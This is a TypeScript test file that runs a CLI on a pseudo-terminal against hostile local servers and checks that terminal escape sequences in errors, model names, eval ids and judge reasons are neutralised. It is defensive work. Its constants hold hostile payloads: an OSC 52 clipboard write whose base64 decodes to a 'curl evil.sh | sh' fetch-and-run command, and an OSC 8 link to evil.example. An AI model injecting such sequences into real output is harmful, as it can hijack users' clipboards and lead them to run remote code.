/**
 * Terminal escapes from a provider's error, an Ollama server's
 * model names, an eval's case ids, judge reasons, --baseline ids and a --replay diff reached the
 * terminal raw. Each attack here runs the real CLI on a pseudo-terminal against a hostile server
 * on 127.0.0.1, and the terminal must receive no escape but the CLI's own colors.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { cleanEnv, cliArgv, tempCwd, useWireServer } from "../helpers/cli.js";
import { chatJson, chatSse } from "../helpers/openai-replies.js";
import { spawnPty } from "../helpers/pty.js";
import type { RecordedRequest } from "../helpers/wire-server.js";

const ESC = "\u001b";
// C0 but newline and tab, DEL, C1: what must never reach a terminal raw.
const CONTROL = /(?![\n\t])\p{Cc}/u;
const BEL = "\u0007";
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`;
const OSC0 = `${ESC}]0;pwned${BEL}`;
const OSC8 = `${ESC}]8;;https://evil.example/${ESC}\\here${ESC}]8;;${ESC}\\`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const HOSTILE = `${OSC52}${OSC0}${OSC8}${CLEAR}\u009b2J`;

/**
 * The terminal got no escape sequence but the CLI's own (SGR colors, a spinner's or progress
 * bar's line erase), and no BEL, C1 control or bare carriage return.
 */
function expectOnlyOwnEscapes(raw: string): void {
  // `script` ends lines with CRLF; everything else must be text, a color or a line erase.
  const withoutColors = raw
    .replace(new RegExp(`${ESC}\\[[0-9;]*m`, "g"), "")
    .replace(new RegExp(`\\r${ESC}\\[2K`, "g"), "")
    .replace(/\r\n/g, "\n");
  expect(withoutColors).not.toMatch(CONTROL);
}

/** A pty's environment: no NO_COLOR, so the CLI's own colors are on and must still arrive. */
function ttyEnv(extra: Record<string, string>): NodeJS.ProcessEnv {
  const { NO_COLOR: _, ...env } = cleanEnv(extra);
  return { ...env, TERM: "xterm-256color" };
}

const servers: Server[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});

async function listen(server: Server): Promise<string> {
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe("terminal escapes from hostile servers reach the terminal as text", () => {
  const wire = useWireServer("sk-test-terminal-0123456789");

  it("run: a provider's HTTP 500 error.message in the retry note (OSC 52, OSC 0, OSC 8, CSI)", async () => {
    wire.server.enqueue(
      { status: 500, headers: { "retry-after-ms": "10" }, json: { error: { message: `boom ${HOSTILE}` } } },
      chatSse({ text: "recovered" }),
    );
    const pty = spawnPty(cliArgv("run", "hello"), { cwd: tempCwd(), env: ttyEnv(wireEnv(wire)) });
    expect(await pty.exited).toBe(0);
    expect(pty.output).toContain("retrying in");
    expect(pty.output).toContain("boom \\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007");
    expect(pty.output).toContain("recovered");
    expectOnlyOwnEscapes(pty.raw);
    // The CLI's own color of the retry note still arrives.
    expect(pty.raw).toContain(`${ESC}[33m`);
  });

  it("models and run: Ollama's /api/tags names with escapes, in the provider list and the model line", async () => {
    const name = `llama${OSC52}${OSC0}x`;
    const host = await listen(
      createServer((req, res) => {
        if (req.url === "/api/tags") {
          res.writeHead(200, { "content-type": "application/json" });
          res.end(JSON.stringify({ models: [{ name }] }));
          return;
        }
        res.writeHead(200, { "content-type": "text/event-stream" });
        res.end((chatSse({ text: "hi from ollama" }) as { sse: string }).sse);
      }),
    );
    const env = ttyEnv({ OLLAMA_HOST: host });
    const models = spawnPty(cliArgv("models"), { cwd: tempCwd(), env });
    expect(await models.exited).toBe(0);
    expect(models.output).toContain("ollama:llama\\u001b]52;c;");
    expectOnlyOwnEscapes(models.raw);

    const run = spawnPty(cliArgv("run", "hello"), { cwd: tempCwd(), env });
    expect(await run.exited).toBe(0);
    expect(run.output).toContain("model: ollama:llama\\u001b]52;c;");
    expect(run.output).toContain("hi from ollama");
    expectOnlyOwnEscapes(run.raw);
  });

  it("eval: case ids, judge reasons, --baseline ids and the --replay diff", async () => {
    const cwd = tempCwd("glassloop-eval-escapes-");
    wire.server.handler = hostileEvalModel;
    const env = ttyEnv({ ...wireEnv(wire), HOSTILE_TOOL_DESCRIPTION: `Looks up ${OSC0}${CLEAR}` });
    const first = spawnPty(cliArgv("eval", FIXTURE, "--out", "run1"), { cwd, env });
    await first.exited;
    expect(first.output).toContain("clip\\u001b]52;c;");
    expect(first.output).toContain("reason \\u001b]52;c;");
    expectOnlyOwnEscapes(first.raw);

    const second = spawnPty(cliArgv("eval", FIXTURE, "--out", "run2", "--baseline", "run1"), { cwd, env });
    await second.exited;
    expect(second.output).toContain("against baseline");
    expectOnlyOwnEscapes(second.raw);

    // The recording's description (hostile) against today's: the diff quotes the recorded one.
    const replay = spawnPty(cliArgv("eval", FIXTURE, "--replay", "run1"), {
      cwd,
      env: { ...cleanEnvForTty(), HOSTILE_TOOL_DESCRIPTION: "Looks a thing up." },
    });
    expect(await replay.exited).toBe(1);
    expect(replay.output).toContain("replay diverged");
    expect(replay.output).toContain("\\u001b]0;pwned");
    expectOnlyOwnEscapes(replay.raw);
  });
});

const FIXTURE = join(import.meta.dirname, "fixtures/hostile.eval.ts");

function wireEnv(wire: { env(): NodeJS.ProcessEnv }): Record<string, string> {
  return wire.env() as Record<string, string>;
}

function cleanEnvForTty(): NodeJS.ProcessEnv {
  return ttyEnv({});
}

/** The agent answers "Paris" with escapes around it; the judge gives a hostile reason. */
function hostileEvalModel(request: RecordedRequest, index: number) {
  const body = request.body as { tools?: { function: { name: string } }[] };
  const judging = body.tools?.some((t) => t.function.name === "final_result") === true;
  if (judging)
    return chatJson(
      {
        toolCalls: [
          {
            id: `call_${index}`,
            name: "final_result",
            arguments: JSON.stringify({ score: 0, reason: `reason ${HOSTILE}` }),
          },
        ],
      },
      index,
    );
  return chatJson({ text: `Paris ${OSC8}` }, index);
}
